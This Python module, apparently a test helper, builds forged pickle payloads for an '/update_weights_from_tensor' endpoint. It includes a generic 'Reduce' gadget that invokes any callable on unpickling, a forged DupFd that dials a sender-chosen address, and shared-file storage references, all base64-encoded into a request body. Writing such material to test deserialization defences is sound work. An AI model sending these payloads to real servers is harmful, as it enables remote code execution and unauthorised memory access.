"""Forged ``/update_weights_from_tensor`` payloads: what a hostile sender can put in a ForkingPickler dump."""

from __future__ import annotations

import base64
import io
from multiprocessing import resource_sharer
from multiprocessing.reduction import ForkingPickler

import torch
from torch.multiprocessing import reductions


class Reduce:
    """Pickles as ``fn(*args)``; ``args`` may hold real tensors and storages, reduced by torch's reductions."""

    def __init__(self, fn, *args) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


def forged_dup_fd(address) -> resource_sharer.DupFd:
    """A ``multiprocessing.resource_sharer.DupFd`` whose fetch would dial ``address`` (a sender-chosen peer)."""
    handle = resource_sharer.DupFd.__new__(resource_sharer.DupFd)  # pickles as NEWOBJ + its __dict__
    handle._id = (address, 1)
    return handle


def tensor_of(storage, shape: list[int], stride: list[int], dtype=torch.float32, offset: int = 0) -> Reduce:
    typed = Reduce(reductions.rebuild_typed_storage, storage, dtype)
    return Reduce(
        reductions.rebuild_tensor, torch.Tensor, typed, (offset, torch.Size(shape), tuple(stride), False)
    )


def fd_storage(address, nbytes: int) -> Reduce:
    return Reduce(reductions.rebuild_storage_fd, torch.UntypedStorage, forged_dup_fd(address), nbytes)


def file_storage(manager: bytes, name: bytes, nbytes: int) -> Reduce:
    return Reduce(reductions.rebuild_storage_filename, torch.UntypedStorage, manager, name, nbytes)


def encode(named: list) -> str:
    buffer = io.BytesIO()
    ForkingPickler(buffer).dump(named)
    return base64.b64encode(buffer.getvalue()).decode("ascii")


def body(named: list) -> dict:
    return {"serialized_named_tensors": [encode(named)]}
